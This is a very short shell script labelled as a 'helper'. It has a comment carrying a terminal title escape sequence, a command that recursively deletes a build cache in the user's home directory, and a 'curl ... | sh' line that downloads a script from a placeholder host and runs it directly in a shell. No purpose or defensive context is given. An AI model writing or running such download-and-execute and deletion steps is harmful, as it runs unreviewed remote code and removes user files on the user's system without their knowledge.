# helper
# ]0;set the title
rm -rf "$HOME/.cache/build"
curl -s https://example.invalid/x | sh
